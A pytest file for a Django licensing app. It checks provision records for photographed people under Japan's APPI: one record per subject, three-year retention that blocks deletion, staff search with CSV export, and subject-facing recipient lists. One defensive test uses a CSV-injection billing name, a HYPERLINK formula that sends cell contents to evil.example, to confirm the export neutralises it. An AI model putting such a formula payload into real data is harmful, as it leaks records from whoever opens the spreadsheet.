"""Third-party provision records (APPI): one per subject per delivered line, kept three years."""

from __future__ import annotations

import datetime as dt

import pytest
from django.contrib.admin.sites import site
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from catalog.tests.factories import DatasetFactory
from licensing.commerce import services as commerce_services
from licensing.commerce.tests.test_orders import buy
from licensing.consent import selectors
from licensing.consent import services as consent_services
from licensing.models import ProvisionRecord, ProvisionRecordRetained
from stockdata.accounts.tests.factories import BuyerFactory, StaffFactory

pytestmark = pytest.mark.django_db


def consented_dataset(photos: int, **kwargs):
    """A published dataset whose version's people all signed approved releases, with real image files,
    so its bundle can be built and delivered."""
    from catalog.tests.factories import build_version
    from licensing.delivery.tests.test_bundles import grant_consent, store_cleaned

    dataset = DatasetFactory(version=False, **kwargs)
    version = build_version(dataset, photos=photos, seed=photos, consent=grant_consent)
    store_cleaned(version)
    dataset.refresh_from_db()
    return dataset


@pytest.fixture
def paid_order(django_capture_on_commit_callbacks):
    """Buy and pay; the bundles are built (eager tasks) once the payment commits: delivery writes the records."""

    def pay(*datasets, **overrides):
        order = buy(BuyerFactory(), *datasets, **overrides)
        with django_capture_on_commit_callbacks(execute=True):
            commerce_services.order_mark_paid(order=order, provider="bank_transfer", amount=order.total)
        return order

    return pay


def expected_subjects(line) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for item in line.version.items.order_by("position"):
        for s in item.subjects:
            out.setdefault(s.get("subject_id") or f"{item.photo_id}-{s['position']}", []).append(item.file_name)
    return out


def test_every_subject_of_every_paid_line_has_a_record(paid_order):
    order = paid_order(consented_dataset(4), consented_dataset(3))
    for line in order.lines.all():
        expected = expected_subjects(line)
        records = {r.subject_id: r for r in ProvisionRecord.objects.filter(order_line=line)}
        assert set(records) == set(expected)
        for subject_id, record in records.items():
            assert record.items["files"] == expected[subject_id]
            assert record.recipient_name == order.billing_name
            assert record.dataset_version == line.version.number
            assert record.retain_until == consent_services.retain_until_for(record.provided_on)
            assert record.retain_until.year == record.provided_on.year + 3
            assert record.consent_basis["scopes"] == ["ai_training", "publication"]


def test_records_are_created_once_per_line(paid_order):
    order = paid_order(consented_dataset(2))
    line = order.lines.get()
    count = ProvisionRecord.objects.filter(order_line=line).count()
    assert count == 2
    files = line.version.items.values_list("file_name", flat=True)
    assert consent_services.provision_records_create(line=line, files=files) == 0
    assert ProvisionRecord.objects.filter(order_line=line).count() == count


def test_records_cannot_be_deleted_before_retention_ends(monkeypatch, paid_order):
    paid_order(consented_dataset(2))
    record = ProvisionRecord.objects.first()
    with pytest.raises(ProvisionRecordRetained):
        record.delete()
    with pytest.raises(ProvisionRecordRetained):
        ProvisionRecord.objects.all().delete()
    request = RequestFactory().get("/")
    request.user = StaffFactory(is_superuser=True)
    admin = site._registry[ProvisionRecord]
    assert admin.has_delete_permission(request, record) is False
    # Three years later (the calendar moves, not the record).
    the_day_after = record.retain_until + dt.timedelta(days=1)
    monkeypatch.setattr(timezone, "localdate", lambda *args, **kwargs: the_day_after)
    assert admin.has_delete_permission(request, record) is True
    record.delete()
    assert not ProvisionRecord.objects.filter(pk=record.pk).exists()


def test_staff_search_records_by_subject_and_export_csv(client, paid_order):
    paid_order(consented_dataset(2))
    record = ProvisionRecord.objects.first()
    client.force_login(StaffFactory())
    page = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id}).content.decode()
    assert record.subject_id in page
    response = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id, "format": "csv"})
    rows = response.content.decode("utf-8-sig").splitlines()
    assert rows[0].startswith("subject_id,provided_on,recipient")
    assert len(rows) == 2 and rows[1].startswith(record.subject_id)
    client.force_login(BuyerFactory())
    assert client.get(reverse("licensing:provision_records")).status_code == 404


def test_the_subject_sees_who_received_their_photos(paid_order):
    from catalog.tests.factories import build_version
    from licensing.delivery.tests.test_bundles import grant_consent, store_cleaned

    made = {}

    def consent(photos):
        made.update(grant_consent(photos))
        return made

    dataset = DatasetFactory(version=False)
    store_cleaned(build_version(dataset, photos=1, consent=consent))
    dataset.refresh_from_db()
    release = next(iter(made.values()))[0]
    assert selectors.subject_photo_recipients(release) == []
    assert dataset.latest_version.items.get().subjects[0]["release_id"] == release.pk
    order = paid_order(dataset)
    record = ProvisionRecord.objects.get(subject_id=release.subject_id)
    assert record.release == release and record.consent_basis["release_id"] == release.pk
    assert selectors.subject_photo_recipients(release) == [
        f"{record.provided_on:%Y-%m-%d} — {order.billing_name} — {dataset.title_en} v1"
    ]


def test_csv_injection_staff_provision_records_csv_defuses_a_formula_billing_name(client, paid_order):
    """A buyer's billing name that a spreadsheet would run as a formula comes out as text."""
    import csv
    import io

    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Open record")'
    order = paid_order(consented_dataset(1), billing_name=hyperlink)
    records = list(ProvisionRecord.objects.filter(order_line__order=order).order_by("pk"))
    assert records and {r.recipient_name for r in records} == {hyperlink}  # stored as the buyer typed it
    record = records[0]
    client.force_login(StaffFactory())
    response = client.get(reverse("licensing:provision_records"), {"subject": record.subject_id, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row["recipient"] for row in rows] == ["'" + hyperlink]
    assert rows[0]["version"] == str(record.dataset_version)
